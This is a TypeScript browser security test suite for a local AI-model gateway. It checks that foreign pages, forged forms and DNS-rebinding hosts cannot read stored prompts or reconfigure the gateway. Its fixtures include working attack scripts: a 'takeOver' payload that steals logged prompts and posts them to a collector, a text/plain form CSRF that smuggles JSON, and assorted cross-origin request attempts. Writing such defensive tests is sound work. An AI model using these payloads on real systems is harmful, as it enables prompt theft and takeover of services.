/**
 * A real Chromium and a real server: web pages cannot reach the gateway, and listed pages can use it.
 */
import { assert, describe, layer } from "@effect/vitest"
import * as Context from "effect/Context"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import type * as Scope from "effect/Scope"
import type { Browser, Page } from "playwright-core"
import { type ServeOptions, type Server, serve } from "../../src/local/node.ts"
import * as Chromium from "../support/chromium.ts"
import { makePeer, type Peer } from "../support/httpPeer.ts"
import { bundle } from "../workerd/support/bundle.ts"
import { leg } from "./support.ts"

if (Chromium.missing !== undefined) console.warn(`test/local/browser: ${Chromium.missing}`)

class Chrome extends Context.Service<Chrome, Browser>()("test/Chrome") {
  static readonly layer = Layer.effect(this, Chromium.start(["evil.example"]))
}

/** A separate tab. */
const tab: Effect.Effect<Page, never, Chrome | Scope.Scope> = Effect.gen(function* () {
  const browser = yield* Chrome
  const context = yield* Effect.acquireRelease(
    Effect.promise(() => browser.newContext()),
    (context) => Effect.promise(() => context.close())
  )
  return yield* Effect.promise(() => context.newPage())
})

/** A web site with one page; every other path accepts whatever the page's scripts send, as text. */
const site = (html: string): Effect.Effect<Peer, never, Scope.Scope> =>
  makePeer((request, response) => {
    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" })
    response.end(request.url === "/" ? html : "taken")
  })

const taken = (peer: Peer): ReadonlyArray<string> =>
  peer.requests.filter(({ method }) => method === "POST").map(({ body }) => body)

const portOf = (url: string): string => new URL(url).port

/**
 * URL of a site under another name: for the browser not the same site as 127.0.0.1, although it is the same machine.
 */
const foreign = (peer: Peer): string => `http://evil.example:${portOf(peer.url)}`

const prompt = "the secret prompt"

/** A gateway that has answered a prompt that no page may see. */
const gateway = (options: Partial<ServeOptions> = {}) =>
  Effect.gen(function* () {
    const server = yield* serve({ port: 0, ...options })
    const headers = { "cf-aig-authorization": "Bearer secret" }
    const body = JSON.stringify([leg("openai", "m", { text: prompt })])
    yield* Effect.promise(() => fetch(server.gateway.url(), { method: "POST", headers, body }))
    assert.strictEqual((yield* server.gateway.calls).length, 1)
    return server
  })

/** A script that would read the prompts and take over the gateway if it ran on the gateway's origin. */
const takeOver = (collector: string): string =>
  `<script>(async () => {
    const calls = await (await fetch("/__admin/calls")).text()
    const script = { provider: "openai", faults: [{ status: 200, body: "owned", repeat: "forever" }] }
    await fetch("/", { method: "POST", headers: { "MF-URL": "http://x/__admin/script" }, body: JSON.stringify(script) })
    await fetch(${JSON.stringify(collector)}, { method: "POST", mode: "no-cors", body: calls })
  })()</script>`

/** A page that submits a universal request as a form, with a fault that answers with the attacker's page. */
const formPage = (action: string, answer: string): string => {
  const faults = JSON.stringify([{ status: 200, body: answer }])
  const json = JSON.stringify([{ ...leg("openai"), headers: { "cf-aig-local-faults": faults } }])
  // An equals sign joins the name and the value of a text/plain form: here it is inside a string.
  const name = `${json.slice(0, -2)},"x":"`.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;")
  return `<form method="POST" enctype="text/plain" action="${action}"><input name="${name}" value='"}]'></form>
    <script>document.forms[0].submit()</script>`
}

/** Asserts that nothing of the attack has happened. */
const isUnharmed = Effect.fnUntraced(function* ({ gateway }: Server, collector: Peer) {
  assert.strictEqual((yield* gateway.calls).length, 1)
  assert.deepStrictEqual(taken(collector), [])
  const response = yield* gateway.handle(
    new Request(gateway.url(), {
      method: "POST",
      headers: { "cf-aig-authorization": "Bearer secret" },
      body: JSON.stringify([leg("openai")])
    })
  )
  assert.notInclude(yield* Effect.promise(() => response.text()), "owned")
})

describe.skipIf(Chromium.missing !== undefined)(Chromium.missing ?? "in Chromium", () => {
  layer(Chrome.layer, { excludeTestServices: true })((it) => {
    for (const [path, options] of [
      ["/v1/local/default", {}],
      ["/ai-gateway/universal/run/default", {}],
      ["/ai-gateway/universal/run/default", { token: Redacted.make("secret") }]
    ] as const) {
      const name = "token" in options ? `${path}, with a token` : path
      it.effect(`a form on a foreign page neither calls a model nor opens a page on our origin: ${name}`, () =>
        Effect.gen(function* () {
          const server = yield* gateway(options)
          const collector = yield* site("")
          const attack = yield* site(formPage(`${server.url}${path}`, takeOver(collector.url)))
          const page = yield* tab
          for (const from of [foreign(attack), attack.url]) {
            const rejected = page.waitForResponse((response) => response.url() === `${server.url}${path}`)
            yield* Effect.promise(() => page.goto(from))
            assert.strictEqual((yield* Effect.promise(() => rejected)).status(), 403)
          }
          yield* isUnharmed(server, collector)
        })
      )
    }

    it.effect("does not run a script in an answer on the gateway's origin", () =>
      Effect.gen(function* () {
        const server = yield* gateway()
        const collector = yield* site("")
        const body = `<title>served</title>${takeOver(collector.url)}<script>document.title = "ran"</script>`
        yield* server.gateway.script("groq", [{ status: 200, body }])
        const page = yield* tab
        yield* Effect.promise(() => page.goto(`${server.url}/v1/local/default/groq/models`))
        assert.strictEqual(yield* Effect.promise(() => page.title()), "served")
        assert.strictEqual(yield* Effect.promise(() => page.evaluate("self.origin")), "null")
        assert.strictEqual((yield* server.gateway.calls).length, 2)
        assert.deepStrictEqual(taken(collector), [])
      })
    )

    it.effect("lets no request from a foreign page reach a model", () =>
      Effect.gen(function* () {
        const server = yield* gateway()
        const target = server.gateway.url("default", "openai")
        const collector = yield* site("")
        const attempts = `<a href="${target}/link" id="link">x</a><script>
          const tries = []
          const tag = (name, attributes) => tries.push(new Promise((done) => {
            const element = Object.assign(document.createElement(name), attributes, { onload: done, onerror: done })
            document.head.append(element)
          }))
          tag("script", { src: "${target}/script" })
          tag("img", { src: "${target}/image" })
          tag("link", { rel: "stylesheet", href: "${target}/style" })
          for (const method of ["GET", "POST"]) {
            for (const mode of ["no-cors", "cors"]) {
              tries.push(fetch("${target}/" + method, { method, mode, body: method === "GET" ? undefined : "{}" }).then((r) => r.text()).catch(() => "failed"))
            }
          }
          tries.push(fetch("${target}/put", { method: "PUT", body: "{}", headers: { "mf-url": "http://x/__admin/reset" } }).catch(() => "failed"))
          tries.push(new Promise((done) => { const s = new WebSocket("${target.replace("http", "ws")}/socket"); s.onerror = done; s.onopen = done }))
          navigator.sendBeacon("${target}/beacon", "{}")
          globalThis.all = Promise.all(tries).then((results) => results.filter((r) => typeof r === "string"))
        </script>`
        const attack = yield* site(attempts)
        const page = yield* tab
        yield* Effect.promise(() => page.goto(foreign(attack)))
        const read = yield* Effect.promise(() => page.evaluate("globalThis.all"))
        assert.deepStrictEqual(
          read,
          Array.from({ length: 5 }, () => "failed")
        )
        const [response] = yield* Effect.promise(() =>
          Promise.all([page.waitForResponse((response) => response.url().endsWith("/link")), page.click("#link")])
        )
        assert.strictEqual(response.status(), 403)
        yield* isUnharmed(server, collector)
      })
    )

    it.effect("rejects a host name that an attacker points at this machine", () =>
      Effect.gen(function* () {
        const server = yield* gateway()
        const page = yield* tab
        const url = `http://evil.example:${server.port}`
        const first = yield* Effect.promise(() => page.goto(`${url}/__admin/calls`))
        assert.strictEqual(first?.status(), 403)
        assert.notInclude(yield* Effect.promise(() => page.content()), prompt)
        const reset = yield* Effect.promise(() =>
          page.evaluate(`fetch("/__admin/reset", { method: "POST" }).then((r) => r.status, () => "blocked")`)
        )
        assert.include([403, "blocked"], reset)
        assert.strictEqual((yield* server.gateway.calls).length, 1)
      })
    )

    it.effect("lets a listed page use the library: preflights, faults and log ids", () =>
      Effect.gen(function* () {
        const { code } = yield* Effect.promise(() => bundle(new URL("browserPage.ts", import.meta.url)))
        const listed = yield* site(`<script type="module">${code.replaceAll("</script", "<\\/script")}</script>`)
        const origin = `http://localhost:${portOf(listed.url)}`
        const server = yield* serve({ port: 0, allowOrigins: [origin] })
        yield* server.gateway.script("openai", [{ status: 503 }])
        const ask = Effect.fnUntraced(function* (from: string) {
          const page = yield* tab
          yield* Effect.promise(() => page.goto(from))
          const told = yield* Effect.promise(() => page.evaluate(`ask(${JSON.stringify(server.url)})`))
          return JSON.parse(String(told))
        })
        const answered = yield* ask(origin)
        const logIds = (yield* server.gateway.calls).map(({ logId }) => logId)
        assert.deepStrictEqual(answered, {
          text: "groq/m: Hello",
          logId: logIds[1],
          attempts: [
            { logId: logIds[0], status: 503 },
            { logId: logIds[1], status: 200 }
          ]
        })
        assert.deepStrictEqual(yield* ask(listed.url), { failed: "TransportFailure" })
        assert.strictEqual((yield* server.gateway.calls).length, 2)
      })
    )
  })
})
